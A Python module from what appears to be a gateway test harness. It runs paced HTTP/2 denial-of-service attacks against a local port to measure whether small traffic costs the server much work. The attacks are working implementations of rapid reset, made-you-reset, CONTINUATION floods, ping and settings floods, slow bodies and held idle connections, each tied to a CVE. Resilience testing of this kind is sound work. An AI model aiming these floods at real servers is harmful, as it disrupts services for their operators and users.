"""Attacks with HTTP/2, each in a process of its own so that it takes no time from the
good client's. `Attack` starts one; run by itself this file is that process.

Each is paced: it sends a burst, and sleeps. What is looked for is not how much a machine
can take at all, but whether little that is sent costs much.
"""

import os
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

if __name__ == "__main__":
    sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from hyperframe.frame import HeadersFrame, PingFrame, SettingsFrame

from harness.http2 import Connection, continuation, data, message, reset, window_update
from harness.stubs import probe
from harness.until import until

ADD, BIG = "/probe.v1.Probe/Add", "/probe.v1.Probe/Big"
# Frames in a burst, and how often there is one at most.
BURST, PERIOD_SECONDS = 50, 0.01
# What an attacker keeps open who sends little.
CONNECTIONS, STREAMS = 200, 40
LARGE = 250 * 1024


class Attack:
    """One attack on a port, which begins and pauses when it is told to."""

    def __init__(self, name: str, port: int, frames_a_second: float = 5_000) -> None:
        command = [sys.executable, "-B", __file__, name, str(port), str(frames_a_second)]
        self.process = subprocess.Popen(
            command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, bufsize=1
        )
        assert self.process.stdout.readline() == "ready\n"

    def begin(self) -> None:
        """Begins, and waits until it is in full swing."""
        self._tell("begin")
        until("the attack is in full swing", lambda: self._tell("look") == "True")

    def pause(self) -> int:
        """How many frames it has sent in all."""
        return int(self._tell("pause"))

    def _tell(self, word: str) -> str:
        self.process.stdin.write(f"{word}\n")
        return self.process.stdout.readline().strip()

    def __enter__(self) -> "Attack":
        return self

    def __exit__(self, *_: object) -> None:
        self.process.kill()
        self.process.communicate()


class Flood:
    """Bursts of frames over one connection; a new one when it is sent away."""

    def __init__(self, port: int, burst: Callable[["Flood"], list]) -> None:
        self.port, self.burst = port, burst
        self.period = PERIOD_SECONDS
        self.connection: Connection | None = None
        self.sent = 0

    @property
    def is_built(self) -> bool:
        return self.sent > 0

    def step(self) -> None:
        end = time.monotonic() + self.period
        try:
            if self.connection is None:
                self.connection, self.stream = Connection(self.port), -1
                self.is_new = True
            frames = self.burst(self)
            self.is_new = False
            self.connection.send(*frames)
            self.sent += len(frames)
            # What comes back is read, and thrown away.
            for _ in self.connection.frames(end):
                pass
            if self.connection.goaway is not None:
                raise ConnectionResetError
        except OSError:
            self.stop()
        time.sleep(max(0, end - time.monotonic()))

    def next_stream(self) -> int:
        self.stream += 2
        return self.stream

    def stop(self) -> None:
        if self.connection is not None:
            self.connection.socket.close()
            self.connection = None


class Held:
    """Connections that are opened, and then kept busy with next to nothing."""

    def __init__(self, port: int, count: int, begin: Callable, go_on: Callable) -> None:
        self.port, self.count, self.begin, self.go_on = port, count, begin, go_on
        self.connections: list[Connection] = []
        self.sent = 0

    @property
    def is_built(self) -> bool:
        return len(self.connections) == self.count

    def step(self) -> None:
        if len(self.connections) < self.count:
            for _ in range(min(20, self.count - len(self.connections))):
                connection = Connection(self.port, window=0)
                self.sent += self.begin(connection)
                self.connections.append(connection)
        else:
            for connection in self.connections:
                try:
                    self.sent += self.go_on(connection)
                except OSError:
                    pass
        time.sleep(PERIOD_SECONDS)

    def stop(self) -> None:
        while self.connections:
            self.connections.pop().socket.close()


def add(name: str = "attacked") -> bytes:
    return message(probe.AddRequest(probe=name, delta=1).SerializeToString())


def rapid_reset(flood: Flood) -> list:
    """Calls that are given up at once (CVE-2023-44487)."""
    frames = []
    for _ in range(BURST // 2):
        stream = flood.next_stream()
        frames += [flood.connection.headers(stream, ADD), reset(stream)]
    return frames


def made_you_reset(flood: Flood) -> list:
    """Calls that the gateway must give up (CVE-2025-8671)."""
    frames = []
    for _ in range(BURST // 2):
        stream = flood.next_stream()
        frames += [flood.connection.headers(stream, ADD), window_update(stream, 0)]
    return frames


def continuations(flood: Flood) -> list:
    """Headers that never end (CVE-2024-27316)."""
    if flood.is_new:
        return [flood.connection.headers(flood.next_stream(), ADD, flags=())]
    # A header without indexing, its name and its value of 100 bytes.
    header = b"\x00\x64" + b"x" * 100 + b"\x64" + b"y" * 100
    return [continuation(1, header * 40) for _ in range(BURST)]


def empty_continuations(flood: Flood) -> list:
    """Headers that never end, and have nothing in them."""
    if flood.is_new:
        return [flood.connection.headers(flood.next_stream(), ADD, flags=())]
    return [continuation(1, b"") for _ in range(BURST)]


def settings(flood: Flood) -> list:
    """Each wants to be acknowledged (CVE-2019-9515)."""
    return [SettingsFrame(0, {SettingsFrame.INITIAL_WINDOW_SIZE: 65_535})] * BURST


def pings(flood: Flood) -> list:
    """Each wants to be answered (CVE-2019-9512)."""
    return [PingFrame(0, b"12345678")] * BURST


def empty_data(flood: Flood) -> list:
    """A body that never ends, and has nothing in it (CVE-2019-9518)."""
    frames = [data(flood.stream, b"", end=False) for _ in range(BURST) if not flood.is_new]
    if flood.is_new:
        frames = [flood.connection.headers(flood.next_stream(), ADD)]
    return frames


def empty_headers(flood: Flood) -> list:
    """Calls without a header (CVE-2019-9516 is their like)."""
    frames = []
    for _ in range(BURST):
        frame = flood.connection.headers(flood.next_stream(), ADD)
        frame.data = b""
        frame.flags.add("END_STREAM")
        frames.append(frame)
    return frames


def window_updates(flood: Flood) -> list:
    """Nobody has asked for them."""
    return [window_update(0, 1)] * BURST


def ask_for_much(connection: Connection, streams: int = STREAMS) -> int:
    """Large answers, which are never taken (CVE-2019-9517)."""
    request = message(probe.BigRequest(probe="large", reply_bytes=LARGE).SerializeToString())
    for stream in range(1, 2 * streams, 2):
        # All are the same message, whose answer is stored.
        headers = connection.headers(stream, BIG, {"callboard-message-id": "large"})
        connection.send(headers, data(stream, request))
        # One after the other, for it is not the asking that is looked at. The headers of
        # the answer need no window.
        for frame in connection.frames():
            if isinstance(frame, HeadersFrame):
                break
    return 2 * streams


def begin_bodies(connection: Connection) -> int:
    """Calls whose bodies come byte by byte."""
    for number in range(5):
        stream = 2 * number + 1
        connection.send(connection.headers(stream, ADD), data(stream, b"\0", end=False))
    return 10


def a_byte_more(connection: Connection) -> int:
    connection.send(data(1, b"\0", end=False))
    return 1


def begin_headers(connection: Connection) -> int:
    """A call whose headers never end, and come a little at a time."""
    connection.send(connection.headers(1, ADD, flags=()))
    return 1


def nothing(_: Connection) -> int:
    return 0


ATTACKS = {
    "rapid reset": lambda port: Flood(port, rapid_reset),
    "made you reset": lambda port: Flood(port, made_you_reset),
    "continuations": lambda port: Flood(port, continuations),
    "empty continuations": lambda port: Flood(port, empty_continuations),
    "settings": lambda port: Flood(port, settings),
    "pings": lambda port: Flood(port, pings),
    "empty data": lambda port: Flood(port, empty_data),
    "empty headers": lambda port: Flood(port, empty_headers),
    "window updates": lambda port: Flood(port, window_updates),
    "answers that are not taken": lambda port: Held(port, 1, ask_for_much, nothing),
    "bodies byte by byte": lambda port: Held(port, 50, begin_bodies, a_byte_more),
    "headers that do not end": lambda port: Held(port, 100, begin_headers, nothing),
    "idle connections": lambda port: Held(port, CONNECTIONS, nothing, nothing),
}


def main(name: str, port: str, frames_a_second: str) -> None:
    """Does what it is told to on its input: `begin`, `look`, `pause`."""
    os.nice(19)
    attack = ATTACKS[name](int(port))
    attack.period = max(PERIOD_SECONDS, BURST / float(frames_a_second))
    os.set_blocking(sys.stdin.fileno(), False)
    print("ready", flush=True)
    is_on = False
    while True:
        word = sys.stdin.readline().strip()
        if word == "look":
            print(attack.is_built, flush=True)
        elif word:
            is_on = word == "begin"
            if not is_on:
                attack.stop()
            print(attack.sent, flush=True)
        if is_on:
            attack.step()
        else:
            time.sleep(PERIOD_SECONDS)


if __name__ == "__main__":
    main(*sys.argv[1:])
